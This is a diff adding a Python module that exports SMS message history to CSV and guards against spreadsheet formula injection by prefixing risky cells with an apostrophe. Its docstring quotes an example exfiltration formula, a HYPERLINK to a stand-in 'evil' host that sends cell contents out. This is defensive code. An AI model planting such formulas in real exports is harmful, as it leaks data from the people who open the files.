@@ -1,0 +1,108 @@
+"""CSV export of messages, safe to open in a spreadsheet.
+
+Formula injection: a cell such as ``=HYPERLINK("http://evil/?"&A1)`` or ``@SUM(...)`` in an SMS
+body runs when the file is opened in Excel/LibreOffice/Sheets. Any text cell whose first
+character (after leading spaces, which spreadsheets skip) is one of ``= + - @ TAB CR`` is
+written with a leading ``'``, which spreadsheets read as "this is text" (OWASP advice).
+
+The one exception, by choice: a cell that is exactly an E.164 number (``+`` then 8-15 digits)
+is written as-is. It cannot hold a formula (no operators, no function names, no references),
+so prefixing it would only make every phone number column unreadable and break re-import. The
+worst a spreadsheet does with it is show it as a number without the ``+``.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import re
+from collections.abc import Iterable, Sequence
+from datetime import UTC, datetime
+from decimal import Decimal
+from pathlib import Path
+from typing import TextIO
+
+from smstui.core.models import HistoryMessage
+
+_DANGEROUS_FIRST = frozenset("=+-@\t\r")
+_E164 = re.compile(r"\+[1-9][0-9]{7,14}")
+
+HISTORY_COLUMNS = (
+    "message_id",
+    "direction",
+    "date",
+    "to",
+    "from",
+    "status",
+    "parts",
+    "price",
+    "body",
+)
+
+
+def safe_cell(value: object) -> str:
+    """The text to write for ``value``; text that a spreadsheet would evaluate gets a ``'``."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "true" if value else "false"
+    if isinstance(value, int | Decimal | float):
+        return str(value)  # our own numbers (parts, price) are data, never formulas
+    if isinstance(value, datetime):
+        return iso_utc(value)
+    text = str(value)
+    if _E164.fullmatch(text):
+        return text
+    stripped = text.lstrip(" ")
+    if stripped and stripped[0] in _DANGEROUS_FIRST:
+        return "'" + text
+    return text
+
+
+def iso_utc(when: datetime | None) -> str:
+    """ISO 8601 in UTC with a ``Z`` (naive datetimes are taken as UTC)."""
+    if when is None:
+        return ""
+    if when.tzinfo is None:
+        when = when.replace(tzinfo=UTC)
+    return when.astimezone(UTC).isoformat().replace("+00:00", "Z")
+
+
+def write_csv(out: TextIO, header: Sequence[str], rows: Iterable[Sequence[object]]) -> int:
+    """Write a header row and ``rows`` (every cell through ``safe_cell``); return the row count."""
+    writer = csv.writer(out, lineterminator="\r\n")
+    writer.writerow([safe_cell(h) for h in header])
+    count = 0
+    for row in rows:
+        writer.writerow([safe_cell(c) for c in row])
+        count += 1
+    return count
+
+
+def history_row(m: HistoryMessage) -> list[object]:
+    return [
+        m.message_id,
+        m.direction,
+        m.date,
+        m.to,
+        m.sender,
+        m.status,
+        m.parts,
+        m.price,
+        m.body,
+    ]
+
+
+def export_history(path: Path, messages: Iterable[HistoryMessage]) -> int:
+    """Write ``messages`` to ``path`` as CSV (UTF-8 with BOM so Excel reads accents right)."""
+    tmp = path.with_name(path.name + ".part")
+    with tmp.open("w", encoding="utf-8-sig", newline="") as out:
+        count = write_csv(out, HISTORY_COLUMNS, (history_row(m) for m in messages))
+    tmp.replace(path)  # never leave a half-written export under the real name
+    return count
+
+
+def history_csv_text(messages: Iterable[HistoryMessage]) -> str:
+    buf = io.StringIO()
+    write_csv(buf, HISTORY_COLUMNS, (history_row(m) for m in messages))
+    return buf.getvalue()
